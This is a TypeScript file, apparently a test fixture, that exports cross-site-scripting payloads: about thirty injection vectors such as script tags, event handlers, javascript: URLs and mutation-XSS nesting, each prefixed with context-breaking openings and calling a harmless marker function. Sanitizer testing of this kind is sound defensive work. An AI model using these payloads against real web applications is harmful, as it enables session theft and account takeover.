const call = '__xss()';

/** Ways to smuggle a script into a page, after the cheat sheets of OWASP and PortSwigger. */
const vectors = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<details open ontoggle=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<a href="javascript:${call}" id=xss-link>x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}">`,
  `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href="javascript:${call}//">`,
  `<template><img src=x onerror=${call}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<xss onpointerenter=${call} onanimationstart=${call} style="animation:x 1s">x</xss>`,
  `</title><script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<style onload=${call}></style>`,
  `javascript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
];
const openings = ['', '">', "'>", '</textarea>'];

/** Each calls `__xss()` when it runs. */
export const xssPayloads: readonly string[] = openings.flatMap((opening) => vectors.map((vector) => opening + vector));
